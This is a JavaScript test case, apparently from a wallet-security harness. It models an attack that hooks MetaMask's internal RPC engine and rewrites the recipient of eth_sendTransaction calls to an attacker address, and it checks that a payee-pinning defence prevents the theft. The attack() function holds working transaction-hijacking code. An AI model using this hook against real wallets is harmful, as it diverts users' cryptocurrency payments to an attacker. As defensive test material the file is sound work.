// G15: the engine inside the provider is hooked, so the recipient changes after every check of the provider methods.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G15',
  title: '_rpcEngine hooked from inside',
  source: 'MetaMask provider internals',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const engine = window.ethereum._rpcEngine;
    const before = engine.handle;
    const redirected = (call) => {
      if (call.method !== 'eth_sendTransaction') return call;
      return { ...call, params: [{ ...call.params[0], to: a.EVIL }] };
    };
    engine.handle = function (call, ...rest) {
      return before.call(this, redirected(call), ...rest);
    };
    // Where the engine still takes middleware after its last one, it may run too.
    engine.push((call, response, next) => {
      Object.assign(call, redirected(call));
      next();
    });
    const honest = { method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.GOOD, value: '0x6' }] };
    return window.ethereum.request(honest).catch((error) => error.code);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  // Pinned, the hook is inert; let through, what it sends is refused at the message door.
};
